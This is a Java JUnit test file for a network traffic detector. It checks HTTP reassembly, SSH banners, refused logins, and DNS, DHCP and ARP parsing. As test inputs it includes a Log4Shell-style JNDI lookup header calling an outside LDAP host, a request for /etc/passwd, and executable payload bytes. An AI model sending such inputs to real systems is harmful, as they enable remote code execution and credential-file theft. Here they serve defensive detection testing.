package com.hookprobe.qsecbit.detection.packet;

import static org.assertj.core.api.Assertions.assertThat;

import com.hookprobe.qsecbit.detection.EventType;
import com.hookprobe.qsecbit.detection.NetworkEvent;
import java.util.List;
import org.junit.jupiter.api.Test;

class ConversationsTest {
    private final Lab lab = new Lab();
    private int up = 1001;
    private int down = 5001;

    private ConversationsTest connect(int port) {
        lab.open(Lab.CLIENT, 40_000, Lab.SERVER, port);
        return this;
    }

    private ConversationsTest ask(int port, String text) {
        lab.send(Frames.tcp(Lab.CLIENT, 40_000, Lab.SERVER, port, up, down, 0x18, Frames.bytes(text)));
        up += text.length();
        return this;
    }

    private ConversationsTest answer(int port, String text) {
        lab.send(Frames.tcp(Lab.SERVER, port, Lab.CLIENT, 40_000, down, up, 0x18, Frames.bytes(text)));
        down += text.length();
        return this;
    }

    private List<NetworkEvent.Http> requests() {
        lab.pipeline.flush();
        return lab.events(EventType.HTTP).stream().map(NetworkEvent::http).toList();
    }

    @Test
    void requestWithItsAnswer() {
        connect(8080)
                .ask(
                        8080,
                        "GET /a?b=c HTTP/1.1\r\nHost: www.example.net\r\nUser-Agent: curl/8\r\nReferer: http://x/\r\n\r\n");
        answer(8080, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
        assertThat(requests())
                .containsExactly(
                        new NetworkEvent.Http("www.example.net", "/a?b=c", "GET", 404, "curl/8", "http://x/", ""));
        assertThat(lab.events(EventType.HTTP).get(0).srcIp()).hasToString(Lab.CLIENT);
        assertThat(lab.events(EventType.FLOW).get(0).appProto()).isEqualTo("http");
    }

    @Test
    void anAnswerCarriesWhatItsFirstBytesAre() {
        connect(80).ask(80, "GET /a.png HTTP/1.1\r\n\r\n");
        answer(
                80,
                "HTTP/1.1 200 OK\r\nContent-Type: Image/PNG; q=1\r\nContent-Length: 9\r\n\r\nMZ\u0090\0\u0003\0\0\0\0");
        ask(80, "GET /late HTTP/1.1\r\n\r\n");
        answer(80, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n").answer(80, "4\r\n\u007fELF\r\n0\r\n\r\n");
        ask(80, "GET /text HTTP/1.1\r\n\r\n");
        answer(80, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 6\r\n\r\n<html>");
        ask(80, "GET /never HTTP/1.1\r\n\r\n");
        answer(80, "HTTP/1.1 200 OK\r\nContent-Length: 60\r\n\r\n");
        assertThat(requests()).extracting(NetworkEvent.Http::url).containsExactly("/a.png", "/late", "/text", "/never");
        assertThat(lab.events(EventType.HTTP))
                .extracting(NetworkEvent::content)
                .containsExactly(
                        new NetworkEvent.Content("image/png", "application/x-dosexec"),
                        new NetworkEvent.Content("", "application/x-executable"),
                        new NetworkEvent.Content("text/html", ""),
                        NetworkEvent.Content.NONE);
    }

    @Test
    void aRequestInPiecesOutOfOrderAndRepeated() {
        String text = "GET /etc/passwd HTTP/1.1\r\nHost: h\r\n\r\n";
        connect(80);
        int[][] parts = {{10, 20}, {0, 10}, {5, 15}, {20, text.length()}, {0, text.length()}};
        for (int[] part : parts) {
            lab.send(Frames.tcp(
                    Lab.CLIENT,
                    40_000,
                    Lab.SERVER,
                    80,
                    up + part[0],
                    down,
                    0x18,
                    Frames.bytes(text.substring(part[0], part[1]))));
        }
        assertThat(requests()).extracting(NetworkEvent.Http::url).containsExactly("/etc/passwd");
    }

    @Test
    void oneByteInEachSegment() {
        connect(80);
        for (char c : "GET /x HTTP/1.0\n\n".toCharArray()) {
            ask(80, String.valueOf(c));
        }
        assertThat(requests()).extracting(NetworkEvent.Http::url).containsExactly("/x");
    }

    @Test
    void pipelinedRequestsAndOnesInsideABody() {
        String inner = "GET /inner HTTP/1.1\r\n\r\n";
        connect(80)
                .ask(
                        80,
                        "POST /p HTTP/1.1\r\nContent-Length: " + inner.length() + "\r\n\r\n" + inner
                                + "GET /second HTTP/1.1\r\n\r\nGET /third HTTP/1.1\r\n\r\n");
        answer(80, "HTTP/1.1 200 OK\r\n\r\n").answer(80, "HTTP/1.1 301 Moved\r\n\r\n");
        assertThat(requests())
                .extracting(h -> h.url() + " " + h.status() + " " + h.body().length())
                .containsExactly("/p 200 " + inner.length(), "/second 301 0", "/third 0 0");
    }

    @Test
    void longBodiesAreSkippedAndTheNextRequestFound() {
        connect(80).ask(80, "PUT /big HTTP/1.1\r\nContent-Length: 100000\r\n\r\n");
        for (int i = 0; i < 100; i++) {
            ask(80, "x".repeat(1000));
        }
        ask(80, "GET /after HTTP/1.1\r\n\r\n");
        List<NetworkEvent.Http> found = requests();
        assertThat(found).extracting(NetworkEvent.Http::url).containsExactly("/big", "/after");
        assertThat(found.get(0).body()).hasSize(HttpRequest.BODY_BYTES_MAX);
    }

    @Test
    void afterALossReadingGoesOnWithTheNextRequest() {
        connect(80).ask(80, "GET /first HTTP/1.1\r\nHost");
        up += 50_000;
        ask(80, "GET /later HTTP/1.1\r\n\r\n");
        assertThat(requests()).extracting(NetworkEvent.Http::url).contains("/later");
    }

    @Test
    void whatNobodyAnswersIsToldAfterAWhile() {
        connect(80).ask(80, "GET /slow HTTP/1.1\r\n\r\n");
        for (int i = 0; i < 40; i++) {
            lab.pause(250);
            lab.pipeline.onTime(lab.micros);
        }
        assertThat(lab.events(EventType.HTTP)).hasSize(1);
        assertThat(requests()).hasSize(1);
    }

    @Test
    void aHeadWithoutEndIsToldAndBounded() {
        connect(80).ask(80, "GET /" + "a".repeat(1300));
        for (int i = 0; i < 30; i++) {
            ask(80, "b".repeat(1400));
        }
        assertThat(requests()).hasSize(1);
        assertThat(requests().get(0).url()).hasSizeLessThanOrEqualTo(StreamBuffer.CAPACITY);
    }

    @Test
    void oddFieldsWithALookUpStandForTheReferer() {
        connect(80).ask(80, "GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://203.0.113.7/a}\r\n\r\n");
        assertThat(requests().get(0).referer()).contains("jndi");
    }

    @Test
    void bannersOfSsh() {
        connect(22).answer(22, "SSH-2.0-OpenSSH_9.2p1 Debian\r\n").ask(22, "SSH-2.0-libssh_0.9\r\n");
        assertThat(lab.events(EventType.SSH))
                .extracting(NetworkEvent::ssh)
                .containsExactly(new NetworkEvent.Ssh("libssh_0.9", "OpenSSH_9.2p1"));
        assertThat(lab.events(EventType.SSH).get(0).srcIp()).hasToString(Lab.CLIENT);
    }

    @Test
    void refusedLogins() {
        connect(21).answer(21, "220 hello\r\n").ask(21, "USER a\r\n").answer(21, "530 Login incorrect.\r\n");
        answer(21, "230 Logged in\r\n");
        assertThat(lab.events(EventType.LOGIN))
                .extracting(e -> e.login().outcome() + " " + e.login().service() + " " + e.srcIp())
                .containsExactly("REFUSED ftp " + Lab.CLIENT, "ACCEPTED ftp " + Lab.CLIENT);
        Lab mail = new Lab();
        String[][] replies = {
            {"25", "535 5.7.8 no"}, {"110", "-ERR [AUTH] Password wrong"}, {"143", "a1 NO [AUTHENTICATIONFAILED] x"},
            {"23", "\r\nLogin incorrect\r\n"}, {"110", "-ERR no such message"}, {"143", "a1 NO no such mailbox"}
        };
        int port = 50_000;
        for (String[] reply : replies) {
            int at = Integer.parseInt(reply[0]);
            mail.open(Lab.CLIENT, ++port, Lab.SERVER, at);
            mail.send(Frames.tcp(Lab.SERVER, at, Lab.CLIENT, port, 5001, 1001, 0x18, Frames.bytes(reply[1])));
        }
        assertThat(mail.events(EventType.LOGIN))
                .hasSize(4)
                .allMatch(e -> e.login().refused());
    }

    @Test
    void dnsOverUdpAndTcp() {
        lab.send(Frames.udp(Lab.CLIENT, 50_000, Lab.SERVER, 53, Frames.dns(0x100, "WWW.Example.net", 16)));
        lab.send(Frames.udp(Lab.SERVER, 53, Lab.CLIENT, 50_000, Frames.dns(0x8183, "www.example.net", 16)));
        byte[] message = Frames.dns(0x100, "a.example.net", 1);
        byte[] framed = Frames.join(new byte[] {0, (byte) message.length}, message);
        lab.open(Lab.CLIENT, 40_000, Lab.SERVER, 53);
        lab.send(Frames.tcp(Lab.CLIENT, 40_000, Lab.SERVER, 53, 1001, 5001, 0x18, Frames.join(framed, framed)));
        assertThat(lab.events(EventType.DNS))
                .extracting(NetworkEvent::dns)
                .containsExactly(
                        new NetworkEvent.Dns(true, "www.example.net", "TXT", ""),
                        new NetworkEvent.Dns(false, "www.example.net", "TXT", "NXDOMAIN"),
                        new NetworkEvent.Dns(true, "a.example.net", "A", ""),
                        new NetworkEvent.Dns(true, "a.example.net", "A", ""));
        lab.send(Frames.udp(Lab.CLIENT, 50_000, Lab.SERVER, 53, Frames.bytes("no message at all, but long")));
        assertThat(lab.events(EventType.ANOMALY)).hasSize(1);
    }

    @Test
    void dhcpAndArp() {
        byte[] message = Frames.dhcp(2, "02:00:00:00:00:77", "10.20.0.2", "10.20.0.1", "10.20.0.53");
        lab.send(Frames.udp("10.20.0.2", 67, "255.255.255.255", 68, message));
        NetworkEvent.Dhcp dhcp = lab.events(EventType.DHCP).get(0).dhcp();
        assertThat(dhcp.messageType()).isEqualTo("offer");
        assertThat(List.of(dhcp.client(), dhcp.server(), dhcp.router(), dhcp.dnsServer()))
                .hasToString("[02:00:00:00:00:77, 10.20.0.2, 10.20.0.1, 10.20.0.53]");
        lab.send(Frames.tagged(
                Frames.arp(1, "02:00:00:00:00:77", Lab.CLIENT, "00:00:00:00:00:00", Lab.SERVER), 0x8100, 5));
        NetworkEvent arp = lab.events(EventType.ARP).get(0);
        assertThat(arp.link().vlan()).isEqualTo(5);
        assertThat(arp.arp().targetIp()).hasToString(Lab.SERVER);
    }

    @Test
    void placesAreTakenFromThoseThatAreSilent() {
        Lab small = new Lab(PacketConfig.builder().conversationsMax(16).build());
        for (int i = 0; i < 200; i++) {
            small.open(Lab.CLIENT, 30_000 + i, Lab.SERVER, 80);
            small.send(
                    Frames.tcp(Lab.CLIENT, 30_000 + i, Lab.SERVER, 80, 1001, 5001, 0x18, Frames.bytes("GET /held HT")));
        }
        small.open(Lab.CLIENT, 40_000, Lab.SERVER, 80);
        small.send(Frames.tcp(
                Lab.CLIENT, 40_000, Lab.SERVER, 80, 1001, 5001, 0x18, Frames.bytes("GET /seen HTTP/1.1\r\n\r\n")));
        small.pipeline.flush();
        assertThat(small.pipeline.counters().displaced()).isGreaterThan(180);
        assertThat(small.events(EventType.HTTP)).extracting(e -> e.http().url()).contains("/seen");
    }
}
